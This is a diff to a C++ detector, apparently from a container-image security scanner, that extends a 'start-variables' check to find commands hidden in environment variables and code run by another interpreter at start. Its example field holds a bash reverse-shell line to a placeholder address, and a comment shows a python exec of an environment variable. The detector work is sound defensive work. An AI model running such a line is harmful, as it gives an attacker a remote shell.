@@ -11,6 +11,7 @@
 
 #include "detect/detector.hpp"
 #include "detect/gather.hpp"
+#include "detect/image/code_variables.hpp"
 #include "detect/image/filled_in.hpp"
 #include "detect/image_support.hpp"
 #include "detect/shell/script_facts.hpp"
@@ -122,8 +123,15 @@ class StartVariables final : public Detector {
       judge({path, file, line, Reach::start, false, facts, &config}, chain,
             place ? model::Visibility::config : context.image.visibility(file), out);
     };
+    const auto told_code = [&](std::vector<EmbeddedCode> codes, const StartText& text) {
+      ShellFacts facts;
+      facts.embedded = std::move(codes);
+      judge({text.path, text.file, text.line, Reach::start, false, facts, &config}, text.chain,
+            model::Visibility::config, out);
+    };
     for (const StartText& text : context.start.texts()) {
       if (!text.path.starts_with(k_config_place)) continue;
+      fill_in_code(text, parts, told_code);
       const std::string line = text.argv.empty() ? text.text : shell_line(text.argv);
       const auto named = [&](const auto& part) { return names_variable(line, part.first); };
       if (line.size() > k_longest_value || std::none_of(parts.begin(), parts.end(), named)) continue;
@@ -136,6 +144,17 @@ class StartVariables final : public Detector {
       if (!facts.ok() || !mentions(facts.value(), parts)) continue;
       told(flows_filled_in(facts.value(), parts), node.path, record->file, 1, node.chain);
     }
+  }
+
+  // Code for another interpreter: python3 -c "exec(os.environ['RUN'])"
+  template <class Told>
+  static void fill_in_code(const StartText& text, const Variables& parts, const Told& told) {
+    std::vector<EmbeddedCode> filled;
+    for (const EmbeddedCode& code : facts_of(text).embedded) {
+      std::string whole = code_filled_in(script_language_named(code.language), code.code, parts);
+      if (!whole.empty()) filled.push_back({code.line, code.language, std::move(whole)});
+    }
+    if (!filled.empty()) told(std::move(filled), text);
   }
 
   static void judge(const ShellUnit& unit, const std::vector<std::string>& chain, model::Visibility visibility,
@@ -159,7 +178,7 @@ class StartVariables final : public Detector {
 
 const util::Registered<StartVariables> registered{{
     .id = "start-variables",
-    .version = 2,
+    .version = 3,
     .summary = "commands in variables of the environment that the start command, a script or a shell runs",
     .example = "ENV RUN=\"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\"",
     .rules = k_rows,
